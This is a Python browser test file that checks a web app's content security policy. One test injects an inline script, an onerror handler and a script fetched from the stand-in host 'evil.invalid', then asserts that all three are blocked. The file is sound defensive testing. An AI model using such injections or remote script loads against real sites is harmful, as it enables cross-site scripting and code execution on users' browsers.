"""The content security policy in Chromium: WebGL draws under it (every page: test_every_page.py), foreign scripts do
not run."""

import urllib.error
import urllib.request

import pytest

from tests.browser.running_app import FLAGS, chromium, settled

pytestmark = pytest.mark.browser

WEBGL = ("--use-angle=swiftshader", "--enable-unsafe-swiftshader", "--ignore-gpu-blocklist")


def test_the_map_draws_by_webgl_under_the_policy(served):
    """Where there is no WebGL, as in the other tests, Plotly says so in the place of the points."""
    with chromium(flags=(*(flag for flag in FLAGS if flag != "--disable-gpu"), *WEBGL)) as page:
        refused = []
        page.on("console", lambda line: refused.append(line.text) if "Content Security Policy" in line.text else None)
        page.goto(f"{served}/map")
        page.locator(".js-plotly-plot canvas").first.wait_for()
        settled(page)
        assert page.evaluate("() => !!document.createElement('canvas').getContext('webgl')")
        assert not page.get_by_text("WebGL is not supported").count()
        assert not refused and not page.problems


def test_a_script_that_got_into_a_page_is_not_run_and_no_other_host_is_asked(served):
    with chromium() as page:
        page.goto(served)
        page.get_by_role("heading", level=1).first.wait_for()
        stopped = {}
        page.on("requestfailed", lambda request: stopped.update({request.url: request.failure}))
        page.evaluate(
            """() => {
              const inline = document.createElement('script');
              inline.textContent = 'window.caught = 1';
              const handler = document.createElement('img');
              handler.setAttribute('onerror', 'window.caught = 2');
              handler.src = '/nothing.png';
              const outside = document.createElement('script');
              outside.src = 'http://evil.invalid/x.js';
              document.body.append(inline, handler, outside);
            }"""
        )
        page.wait_for_timeout(1500)
        assert page.evaluate("() => window.caught") is None and stopped["http://evil.invalid/x.js"] == "csp"


def test_streamlits_own_metrics_are_for_the_token_only(served):
    with pytest.raises(urllib.error.HTTPError, match="403"):
        urllib.request.urlopen(f"{served}/_stcore/metrics")
